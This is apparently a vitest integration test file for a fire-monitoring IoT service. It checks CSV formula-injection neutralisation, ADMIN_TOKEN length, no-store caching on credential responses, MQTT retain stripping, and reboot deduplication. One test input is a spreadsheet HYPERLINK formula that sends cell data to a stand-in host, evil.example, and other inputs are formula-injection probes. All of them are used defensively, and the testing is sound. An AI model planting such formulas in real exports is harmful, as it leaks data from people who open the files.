/**
 * Smaller edge defects of issue #12, through the wire: CSV formula injection in exports (item 8),
 * a short ADMIN_TOKEN (11), responses with credentials cached (11), retained device publishes (11).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, loadConfig } from '../../services/config/config.js';
import { neutraliseCell } from '../../services/shared/csv.js';
import { ADMIN_TOKEN, connectDevice, endClient, provisionDevice, publish, startService, waitFor, type TestService } from '../support/service.js';

let svc: TestService;
beforeAll(async () => {
  svc = await startService();
});
afterAll(async () => {
  await svc.stop();
});

describe('CSV exports are safe to open in a spreadsheet', () => {
  it('a building named like a formula comes out as text in coverage.csv; numbers stay numbers', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const b = await svc.api.post('/api/v1/buildings', { name: evil, street: '化龙桥', address: '@SUM(1+1)', type: 'public', heightM: 120, use: 'complex' });
    expect(b.status).toBe(201);
    const res = await fetch(`${svc.fw.httpUrl}/api/v1/coverage.csv?street=${encodeURIComponent('化龙桥')}`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
    const text = await res.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    for (const [input, out] of [['+1+1', "'+1+1"], ['-2+3', "'-2+3"], ['@x', "'@x"], ['\tx', "'\tx"], ['\rx', "'\rx"], ['-0.05', '-0.05'], ['12', '12'], ['来福士', '来福士']]) {
      expect(neutraliseCell(input!)).toBe(out);
    }
  });
});

describe('ADMIN_TOKEN', () => {
  it('shorter than 32 characters is refused at start, naming the variable', () => {
    const e = (() => {
      try {
        loadConfig({ ADMIN_TOKEN: 'short-token' });
      } catch (err) {
        return err;
      }
      return undefined;
    })();
    expect(e).toBeInstanceOf(ConfigError);
    expect((e as ConfigError).message).toMatch(/ADMIN_TOKEN.*at least 32/);
    expect(() => loadConfig({ ADMIN_TOKEN: 'x'.repeat(32) })).not.toThrow();
  });
});

describe('responses with credentials are not cached', () => {
  it('device registration, login and other API answers carry Cache-Control: no-store', async () => {
    const b = await svc.api.post('/api/v1/buildings', { name: '解放碑大厦', street: '解放碑', type: 'public', heightM: 80, use: 'office' });
    const d = await svc.api.post('/api/v1/devices', { buildingId: b.body.id, kind: 'water_pressure', point: 'hydrant_top', reportIntervalS: 60 });
    expect(d.status).toBe(201);
    expect(d.body.credentials.password).toBeTruthy();
    expect(d.headers.get('cache-control')).toBe('no-store');
    const login = await svc.api.request('POST', '/api/v1/auth/login', { username: 'nobody', password: 'wrong-password' }, undefined);
    expect(login.headers.get('cache-control')).toBe('no-store');
    expect((await svc.api.get('/healthz')).headers.get('cache-control')).toBeNull(); // not an API answer
  });
});

describe('retained publishes from devices', () => {
  it('RETAIN is stripped and counted; the reading itself is stored', async () => {
    const p = await provisionDevice(svc.api);
    const c = await connectDevice(svc.mqttUrl, p);
    await new Promise<void>((resolve, reject) =>
      c.publish(`fire/v1/${p.deviceId}/telemetry`, JSON.stringify({ seq: 1, pressureMpa: 0.3 }), { qos: 1, retain: true }, (err) => (err ? reject(err) : resolve())),
    );
    await waitFor(async () => (await svc.api.get(`/api/v1/devices/${p.deviceId}/readings?limit=5`)).body.items.length === 1, 'stored');
    const metrics = (await svc.api.get('/metrics')).body as string;
    expect(metrics).toMatch(/^firewatch_mqtt_retain_stripped_total 1$/m);
    await endClient(c);
  });
});

describe('a device that reboots and starts its seq again (item 11)', () => {
  it('with a clock: seq 1 after the reboot has a new ts and is stored; the re-send of the same message is not', async () => {
    const p = await provisionDevice(svc.api);
    const topic = `fire/v1/${p.deviceId}/telemetry`;
    const t0 = Date.now() - 60_000;
    let c = await connectDevice(svc.mqttUrl, p);
    for (let seq = 1; seq <= 3; seq++) await publish(c, topic, { seq, ts: t0 + seq * 1000, pressureMpa: 0.3 });
    await publish(c, topic, { seq: 3, ts: t0 + 3000, pressureMpa: 0.3 }); // an application-level re-send
    await endClient(c);
    c = await connectDevice(svc.mqttUrl, p); // rebooted: counting from 1 again
    await publish(c, topic, { seq: 1, ts: t0 + 30_000, pressureMpa: 0.31 });
    await waitFor(async () => (await svc.api.get(`/api/v1/devices/${p.deviceId}/readings?limit=10`)).body.items.length >= 4, 'stored');
    const items = (await svc.api.get(`/api/v1/devices/${p.deviceId}/readings?limit=10`)).body.items as Array<{ seq: number; ts: string }>;
    expect(items.map((r) => r.seq).sort()).toEqual([1, 1, 2, 3]);
    await endClient(c);
  });

  it('without a clock: seq 1 after the reboot with another value is stored; the identical re-send is a duplicate', async () => {
    const p = await provisionDevice(svc.api);
    const topic = `fire/v1/${p.deviceId}/telemetry`;
    let c = await connectDevice(svc.mqttUrl, p);
    await publish(c, topic, { seq: 1, pressureMpa: 0.3 });
    await publish(c, topic, { seq: 2, pressureMpa: 0.3 });
    await publish(c, topic, { seq: 2, pressureMpa: 0.3 }); // re-sent: the same message
    await endClient(c);
    c = await connectDevice(svc.mqttUrl, p);
    await publish(c, topic, { seq: 1, pressureMpa: 0.29 }); // rebooted a minute later, a new value
    await waitFor(async () => (await svc.api.get(`/api/v1/devices/${p.deviceId}/readings?limit=10`)).body.items.length >= 3, 'stored');
    const items = (await svc.api.get(`/api/v1/devices/${p.deviceId}/readings?limit=10`)).body.items as Array<{ seq: number; pressureMpa?: number; fields?: { pressureMpa: number } }>;
    expect(items).toHaveLength(3);
    expect(items.map((r) => r.seq).sort()).toEqual([1, 1, 2]);
    await endClient(c);
  });
});
